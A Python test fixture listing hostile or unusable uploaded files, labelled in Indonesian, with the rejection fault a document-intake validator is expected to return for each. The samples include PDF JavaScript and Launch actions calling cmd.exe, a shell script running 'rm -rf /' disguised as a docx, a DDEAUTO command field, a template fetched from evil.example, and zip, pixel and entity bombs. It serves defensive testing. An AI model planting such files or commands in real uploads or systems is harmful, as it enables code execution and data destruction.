"""Files that would do harm, or are of no use to a case, by what an official would call them."""

import struct

from kanban.exchange.documents.document_faults import Fault
from tests.handed_files import TYPES, excel, field, jpg, object_stream, outside, packed, pdf, png, word

HTML = b"<html><script>alert(1)</script></html>"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LOCKED = OLE + "EncryptedPackage".encode("utf-16-le")
ENTITIES = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
SVG = '<?xml version="1.0"?><svg onload="alert(1)"/>'
TEMPLATE = ("word/_rels/settings.xml.rels", outside("attachedTemplate", "http://evil.example/a.dotm"))
DDE = {"[Content_Types].xml": TYPES, "word/document.xml": field('DDEAUTO c:\\cmd.exe "/k"')}
WITH_MACROS = {"[Content_Types].xml": TYPES.replace(b"application/xml", b"macroEnabled"), "xl/workbook.xml": b"<x/>"}


def lying() -> bytes:
    """A ZIP that says of a part that it is a thousand times smaller than it is."""
    whole = bytearray(word(("word/media/a.bin", b"\x00" * 4_000_000)))
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = whole.rfind(sign)
        whole[place + at : place + at + 4] = struct.pack("<I", 4000)
    return bytes(whole)


HOSTILE: dict[str, tuple[str, bytes, Fault]] = {
    "file kosong, 0 byte": ("surat.pdf", b"", Fault.EMPTY),
    "file berisi angka nol saja": ("surat.pdf", b"\x00" * 5000, Fault.EMPTY),
    "file lebih besar dari 15 MB": ("surat.pdf", pdf() + b" " * 15_000_000, Fault.TOO_LARGE),
    "teks yang diberi nama pdf": ("surat.pdf", b"Kepada Yth. Bapak Kepala Dinas", Fault.TEXT),
    "pdf yang terpotong di tengah": ("surat.pdf", pdf()[:300], Fault.DAMAGED),
    "halaman web yang diberi nama pdf": ("surat.pdf", HTML, Fault.WEB_PAGE),
    "halaman web di depan sebuah pdf": ("surat.pdf", HTML + pdf(), Fault.WEB_PAGE),
    "pdf dengan program di dalamnya": ("surat.pdf", pdf(SCRIPT), Fault.SCRIPTED),
    "pdf dengan program yang hurufnya disamarkan": (
        "surat.pdf", pdf(SCRIPT.replace(b"JavaScript", b"J#61v#61Script").replace(b"/JS", b"/J#53")), Fault.SCRIPTED,
    ),
    "pdf dengan program yang dikempa": ("surat.pdf", pdf(object_stream(SCRIPT)), Fault.SCRIPTED),
    "pdf yang menjalankan program lain": ("surat.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), Fault.SCRIPTED),
    "pdf yang membawa lampiran": ("surat.pdf", pdf(b"<</Type/EmbeddedFile/Length 0>>"), Fault.SCRIPTED),
    "pdf yang mengembang puluhan MB": ("surat.pdf", pdf(object_stream(b" " * 70_000_000)), Fault.BOMB),
    "program Windows dengan ekstensi ganda": ("surat.pdf.exe", b"MZ\x90\x00" + b"\x00" * 200, Fault.PROGRAM),
    "program Linux yang diberi nama foto": ("foto.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, Fault.PROGRAM),
    "naskah perintah yang diberi nama docx": ("surat.docx", b"#!/bin/sh\nrm -rf /\n", Fault.PROGRAM),
    "pintasan Windows": ("surat.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x01" * 80, Fault.PROGRAM),
    "gambar SVG yang diberi nama png": ("denah.png", SVG.encode(), Fault.DRAWING),
    "gambar SVG dalam UTF-16": ("denah.svg", SVG.encode("utf-16"), Fault.DRAWING),
    "gambar GIF": ("denah.gif", b"GIF89a" + b"\x01" * 100, Fault.OTHER_PICTURE),
    "foto HEIC dari iPhone": ("IMG_0001.HEIC", b"\x00\x00\x00\x18ftypheic" + b"\x01" * 100, Fault.OTHER_PICTURE),
    "foto yang rusak": ("foto.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100, Fault.DAMAGED),
    "gambar PNG yang rusak": ("denah.png", png()[:-20] + b"x" * 20, Fault.DAMAGED),
    "gambar PNG dengan arsip di belakangnya": ("denah.png", png(behind=word()), Fault.EMBEDDED),
    "gambar PNG sebesar lapangan (bom piksel)": ("denah.png", png(60_000, 60_000), Fault.BOMB),
    "foto sebesar lapangan (bom piksel)": ("foto.jpg", jpg(65_000, 65_000), Fault.BOMB),
    "arsip ZIP yang diberi nama docx": ("surat.docx", packed({"surat.txt": b"halo"}), Fault.ARCHIVE),
    "arsip RAR": ("surat.rar", b"Rar!\x1a\x07\x00" + b"\x01" * 50, Fault.ARCHIVE),
    "Word lama (doc)": ("surat.doc", OLE + b"\x01" * 600, Fault.OLD_OFFICE),
    "Word yang dikunci kata sandi": ("surat.docx", LOCKED, Fault.LOCKED),
    "naskah RTF": ("surat.rtf", b"{\\rtf1\\object}", Fault.OLD_OFFICE),
    "Word dengan makro": ("surat.docx", word(("word/vbaProject.bin", b"\x01")), Fault.MACROS),
    "Excel dengan makro lama": ("data.xlsx", excel(("xl/macrosheets/sheet1.xml", b"<x/>")), Fault.MACROS),
    "Excel yang menyebut dirinya bermakro": ("data.xlsm", packed(WITH_MACROS), Fault.MACROS),
    "bom zip: docx yang mengembang seribu kali": (
        "surat.docx", word(("word/media/a.xml", b"\x00" * 60_000_000)), Fault.BOMB,
    ),
    "bom zip yang berbohong tentang ukurannya": ("surat.docx", lying(), Fault.DAMAGED),
    "docx dengan ribuan isi": ("surat.docx", word(*((f"word/{n}.xml", b"") for n in range(5100))), Fault.BOMB),
    "docx yang rusak": ("surat.docx", word()[:-40], Fault.DAMAGED),
    "docx dengan nama yang keluar dari foldernya": ("surat.docx", word(("word/../../x", b"x")), Fault.DAMAGED),
    "docx dengan objek tertanam": ("surat.docx", word(("word/embeddings/oleObject1.bin", b"\x01")), Fault.EMBEDDED),
    "docx dengan program yang diberi nama gambar": (
        "surat.docx", word(("word/media/a.png", b"MZ\x90\x00")), Fault.EMBEDDED,
    ),
    "docx dengan kendali ActiveX": ("surat.docx", word(("word/activeX/activeX1.xml", b"<a/>")), Fault.EMBEDDED),
    "docx yang mengambil templat dari internet": ("surat.docx", word(TEMPLATE), Fault.FETCHES),
    "docx yang menjalankan perintah lewat bidang DDE": ("surat.docx", packed(DDE), Fault.FETCHES),
    "xlsx dengan tautan DDE": (
        "data.xlsx", excel(("xl/externalLinks/externalLink1.xml", b"<x><ddeLink/></x>")), Fault.FETCHES,
    ),
    "docx dengan bom entitas XML": ("surat.docx", word(("word/a.xml", ENTITIES)), Fault.DAMAGED),
    "isi acak": ("surat.pdf", bytes((n * 193 + 7) % 256 for n in range(3, 3000)), Fault.UNKNOWN),
}  # fmt: skip
"""The name that it comes under, what is in it, and why it is not taken."""
